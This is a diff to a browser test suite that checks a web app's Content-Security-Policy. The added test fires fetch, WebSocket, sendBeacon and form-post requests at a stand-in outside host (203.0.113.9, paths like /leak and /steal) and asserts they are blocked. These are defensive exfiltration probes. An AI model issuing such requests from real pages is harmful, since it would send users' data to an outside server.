@@ -1,6 +1,7 @@
 """The served page's Content-Security-Policy (reviewer/csp.py) in a real browser: the app renders
 with no violation of its own, the template's buttons still work, and an inline event handler inserted
-into the DOM afterwards does not run and is reported as a CSP violation."""
+into the DOM afterwards does not run and is reported as a CSP violation; nothing connects to, or
+posts a form to, another server."""
 from __future__ import annotations
 
 import pytest
@@ -59,6 +60,18 @@ def test_csp_blocks_injected_inline_handlers_and_keeps_the_app_working(served_ap
     page.wait_for_function("window.__csp.some(v => v.sample.includes('window.__pwn=2'))", timeout=10_000)
     assert page.evaluate("window.__pwn") is None
     assert page.evaluate(f"({X_RANGE_JS})()") is not None  # the plot is still there
+
+    # issue 45, item 6: the page's own websocket runs under connect-src 'self' (the document is live,
+    # above, with no violation), but nothing connects elsewhere, and no form is sent elsewhere
+    page.evaluate("fetch('http://203.0.113.9:9/leak?x=1').catch(() => null)")
+    page.evaluate("try { new WebSocket('ws://203.0.113.9:9/leak') } catch (e) {}")
+    page.evaluate("navigator.sendBeacon('http://203.0.113.9:9/beacon', 'x')")
+    page.evaluate("""(() => { const f = document.createElement('form'); f.method = 'post';
+        f.action = 'http://203.0.113.9:9/steal'; document.body.appendChild(f); f.submit(); })()""")
+    page.wait_for_function("window.__csp.filter(v => v.blocked.includes('203.0.113.9')).length >= 4", timeout=10_000)
+    blocked = {v["directive"] for v in page.evaluate("window.__csp") if "203.0.113.9" in v["blocked"]}
+    assert blocked == {"connect-src", "form-action"}, blocked
+    assert page.url.startswith(served_app.url)  # the form went nowhere
 
 
 def test_each_page_gets_its_own_nonce(served_app, page):
